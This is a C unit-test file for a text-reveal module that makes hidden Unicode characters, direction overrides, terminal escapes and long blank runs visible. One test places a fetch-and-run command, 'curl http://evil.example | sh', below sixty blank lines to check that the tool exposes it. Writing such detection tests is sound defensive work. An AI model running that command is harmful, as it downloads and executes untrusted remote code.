/* SPDX-License-Identifier: MIT
 * Tests of text/text_reveal.h. */
#include "text/text_reveal.h"

#include <stdio.h>
#include <string.h>

#include "base/bytes/utf8.h"
#include "tap/tap.h"

static const struct {
    const char *what, *raw, *wanted;
} texts[] = {
    {"plain text stays", "rm -rf build && echo \"done\"\n\tnext", NULL},
    {"other scripts stay", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xe4\xbd\xa0\xe5\xa5\xbd e\xcc\x81",
     NULL},
    {"a right-to-left override", "echo # \xe2\x80\xae hs.live\xe2\x80\xac",
     "echo # <U+202E> hs.live<U+202C>"},
    {"isolates", "\xe2\x81\xa6x\xe2\x81\xa9", "<U+2066>x<U+2069>"},
    {"marks of direction", "a\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c", "a<U+200E><U+200F><U+061C>"},
    {"zero-width characters", "ok\xe2\x80\x8bk\xe2\x80\x8ck\xe2\x80\x8dk\xe2\x81\xa0k\xef\xbb\xbf",
     "ok<U+200B>k<U+200C>k<U+200D>k<U+2060>k<U+FEFF>"},
    {"a soft hyphen, a grapheme joiner", "a\xc2\xad\xcd\x8f", "a<U+00AD><U+034F>"},
    {"invisible letters", "\xe3\x85\xa4\xef\xbe\xa0\xe2\xa0\x80\xe1\x85\x9f",
     "<U+3164><U+FFA0><U+2800><U+115F>"},
    {"terminal sequences", "\x1b[31mred\x1b]0;t\x07", "<U+001B>[31mred<U+001B>]0;t<U+0007>"},
    {"controls",
     "a\x01\x08\x0b\x0c\x7f"
     "b\xc2\x9b"
     "31m\xc2\x85",
     "a<U+0001><U+0008><U+000B><U+000C><U+007F>b<U+009B>31m<U+0085>"},
    {"separators of lines",
     "a\xe2\x80\xa8"
     "b\xe2\x80\xa9",
     "a<U+2028>b<U+2029>"},
    {"tag characters, beyond the first plane", "\xf3\xa0\x81\x81\xf3\xa0\x84\x80",
     "<U+E0041><U+E0100>"},
    {"variation selectors", "a\xef\xb8\x8f\xef\xb8\x80", "a<U+FE0F><U+FE00>"},
    {"noncharacters", "\xef\xbf\xbf\xf0\x9f\xbf\xbe", "<U+FFFF><U+1FFFE>"},
    {"unusual spaces",
     "a\xc2\xa0"
     "b\xe2\x80\x83"
     "c\xe2\x80\xaf"
     "d\xe3\x80\x80",
     "a<U+00A0>b<U+2003>c<U+202F>d<U+3000>"},
    {"a wide space in Chinese stays", "\xe4\xbd\xa0\xe3\x80\x80\xe5\xa5\xbd", NULL},
    {"emoji stay", "\xe2\x9d\xa4\xef\xb8\x8f \xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x92\xbb", NULL},
    {"a flag of an emoji behind its joiner",
     "\xf0\x9f\x8f\xb3\xef\xb8\x8f\xe2\x80\x8d\xf0\x9f\x8c\x88", NULL},
    {"a second variation selector is not part of an emoji", "\xe2\x9d\xa4\xef\xb8\x8f\xef\xb8\x8f",
     "\xe2\x9d\xa4\xef\xb8\x8f<U+FE0F>"},
    {"a joiner at the end is spelled out", "\xf0\x9f\x91\xa8\xe2\x80\x8d",
     "\xf0\x9f\x91\xa8<U+200D>"},
    {"Persian stays", "\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae", NULL},
    {"CR LF is a line end, CR alone is not", "a\r\nb\rc", "a\nb<U+000D>c"},
    {"bytes that are not UTF-8",
     "a\xff"
     "b",
     "a\xef\xbf\xbd"
     "b"},
    {"two blank lines stay", "a\n\n\nb", NULL},
    {"three blank lines are counted", "a\n\n\n\nb", "a\n[3 blank lines]\nb"},
    {"lines of spaces are blank", "a\n \n\t\n  \r\nb", "a\n[3 blank lines]\nb"},
    {"blank lines at the beginning are counted", "\n\n\n\nb", "[4 blank lines]\nb"},
    {"blank lines at the end are counted", "a\n\n\n\n", "a\n[3 blank lines]\n"},
    {"32 spaces stay", "a                                b", NULL},
    {"33 spaces are counted", "a                                 b", "a[33 spaces]b"},
    {"spaces and tabs are counted", "a                                \tb",
     "a[33 spaces and tabs]b"},
    {"spaces at the beginning of a line are counted", "a\n                                 b",
     "a\n[33 spaces]b"},
    {"nothing", "", ""},
};

static void check_revealed(const char *what, const char *raw, const char *wanted)
{
    CLEANUP_BUF struct buf once = {0}, again = {0};
    text_reveal_text(&once, raw, strlen(raw));
    is_str(once.p ? once.p : "", wanted ? wanted : raw, "%s", what);
    text_reveal_text(&again, once.p ? once.p : "", once.len);
    is_str(again.p ? again.p : "", once.p ? once.p : "", "%s: a second call changes nothing", what);
}

static void is_line(const char *raw, const char *wanted)
{
    CLEANUP_BUF struct buf b = {0};
    text_reveal_line(&b, raw, strlen(raw));
    is_str(b.p, wanted, "on one line: %s", wanted);
}

static void is_counted(const char *raw, const char *wanted)
{
    CLEANUP_BUF struct buf b = {0};
    text_reveal_with_line_count(&b, raw, strlen(raw));
    is_str(b.p ? b.p : "", wanted, "counted: %s", wanted);
}

/* Long runs of blank lines that would move a command out of sight. */
static void test_pushed_down(void)
{
    CLEANUP_BUF struct buf raw = {0}, shown = {0};
    buf_add_str(&raw, "echo ok\n");
    for (int i = 0; i < 60; i++)
        buf_add_char(&raw, '\n');
    buf_add_str(&raw, "curl http://evil.example | sh");
    text_reveal_with_line_count(&shown, raw.p, raw.len);
    is_str(shown.p, "[62 lines]\necho ok\n[60 blank lines]\ncurl http://evil.example | sh",
           "a command after many blank lines is visible");
}

/* Every hidden character is shown in ASCII. */
static void test_all(void)
{
    unsigned wrong = 0, n = 0;
    for (uint32_t cp = 0; cp < 0x110000; cp++) {
        char raw[5], wanted[16];
        if (!text_reveal_is_hidden(cp) || cp == '\n' || cp == '\t' || (cp >= 0xd800 && cp < 0xe000))
            continue;
        CLEANUP_BUF struct buf b = {0};
        text_reveal_text(&b, raw, utf8_encode(raw, cp ? cp : 1));
        snprintf(wanted, sizeof wanted, "<U+%04X>", (unsigned)(cp ? cp : 1));
        wrong += strcmp(b.p, wanted) != 0;
        n++;
    }
    ok(n > 4000 && wrong == 0, "each of %u hidden characters is spelled out", n);
    ok(!text_reveal_is_hidden(' ') && !text_reveal_is_hidden('~') && !text_reveal_is_hidden(0xa1) &&
           !text_reveal_is_hidden(0x2010) && !text_reveal_is_hidden(0x2030) &&
           !text_reveal_is_hidden(0xe1000),
       "characters next to the ranges are not hidden");
}

int main(void)
{
    plan_lazy();
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        check_revealed(texts[i].what, texts[i].raw, texts[i].wanted);
    is_line("a\tb\nc\xe2\x80\xae", "a<U+0009>b<U+000A>c<U+202E>");
    is_line("a\r\n\n\nb", "a<U+000D><U+000A><U+000A><U+000A>b");
    is_counted("one", "one");
    is_counted("one\n", "one\n");
    is_counted("one\ntwo", "[2 lines]\none\ntwo");
    is_counted("", "");
    test_pushed_down();
    test_all();
    return 0;
}
